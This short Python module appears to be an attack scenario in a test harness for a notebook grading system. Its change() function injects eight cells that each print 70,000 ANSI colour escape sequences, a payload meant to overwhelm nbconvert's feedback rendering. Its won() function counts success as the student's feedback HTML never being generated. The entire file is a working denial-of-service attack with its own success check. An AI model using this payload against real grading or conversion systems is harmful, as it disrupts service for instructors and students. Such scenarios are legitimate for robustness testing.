"""Colours: for each one nbconvert copies the rest of the text."""

from nbformat.v4 import new_code_cell


def change(nb, folder):
    nb.cells += [new_code_cell("print('\x1b[1m\x1b[0m' * 70_000)") for _ in range(8)]
    return nb


def won(course, student):
    return not (course.root / "feedback" / student / "toy" / "Toy.html").exists()
